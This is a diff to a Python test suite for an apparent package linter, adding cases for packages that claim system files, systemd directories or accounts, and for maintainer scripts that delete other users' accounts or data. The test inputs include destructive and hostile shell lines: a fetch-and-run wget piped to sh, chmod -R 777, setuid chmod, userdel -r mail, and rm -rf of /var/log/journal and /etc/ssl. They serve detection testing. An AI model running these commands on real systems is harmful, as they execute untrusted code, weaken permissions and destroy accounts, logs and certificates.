@@ -195,6 +195,29 @@ BROKEN = [
             Symlink(path=PurePosixPath(f"{RELEASE}/current"), target=f"{RELEASE}/releases/1.0.0"),
         ],
     ),
+    ("taken-path", "/etc/profile/x", "a file", [file("/etc/profile/x", conffile=True)]),
+    ("taken-path", "/etc/hosts", "every host", [file("/etc/hosts", conffile=True)]),
+    ("taken-path", "/bin/users", "coreutils", [file("/bin/users", mode=0o755)]),
+    ("taken-path", "/etc/pam.d/su", "every host", [file("/etc/pam.d/su", conffile=True)]),
+    (
+        "taken-directory",
+        UNIT,
+        "`RuntimeDirectory=user`",
+        [file(UNIT, service("RuntimeDirectory=hello user"))],
+    ),
+    (
+        "taken-directory",
+        UNIT,
+        "`LogsDirectory=journal/hello`",
+        [file(UNIT, service("LogsDirectory=journal/hello"))],
+    ),
+    ("taken-account", UNIT, "`Group=mail`", [file(UNIT, service("Group=mail"))]),
+    (
+        "shared-name",
+        UNIT,
+        "`StateDirectory=docker`",
+        [file(UNIT, service("StateDirectory=docker"))],
+    ),
     ("without-runtime", RELEASE, "erts", [file(*START_DATA)]),
     (
         "start-data",
@@ -433,6 +456,15 @@ SCRIPTS = [
     ("script-downloads", "preinst", '#!/bin/sh\nset -e\nsh -c "$(wget -qO- http://a/b)"\n', "wget"),
     ("script-opens", "preinst", "#!/bin/sh\nset -e\nchmod -R 777 /var/lib/hello\n", "chmod -R 777"),
     ("script-opens", "preinst", "#!/bin/sh\nset -e\nchmod u+s /usr/bin/hello\n", "chmod u+s"),
+    ("removes-of-others", "preinst", "#!/bin/sh\nset -e\nuserdel -r mail || :\n", "`mail`"),
+    ("removes-of-others", "preinst", "#!/bin/sh\nset -e\ndelgroup --system adm\n", "`adm`"),
+    (
+        "removes-of-others",
+        "preinst",
+        '#!/bin/sh\nset -e\nrm -rf /var/lib/hello "/var/log/journal"\n',
+        "`/var/log/journal`",
+    ),
+    ("removes-of-others", "preinst", "#!/bin/sh\nset -e\nrm -f -r /etc/ssl/*\n", "`/etc/ssl`"),
 ]
 
 
@@ -455,6 +487,9 @@ def test_maintainer_scripts(tmp_path, rule, name, text, says):
         "chmod 640 /etc/hello",
         "chmod go-w x",
         "chmod 1770 x",
+        "userdel hello; groupdel hello",
+        "rm -rf /var/lib/hello /run/hello /etc/ssl/hello /var/log/journal-of-hello",
+        "rm -f /etc/motd.hello",
     ],
 )
 def test_harmless_lines_of_scripts(tmp_path, line):
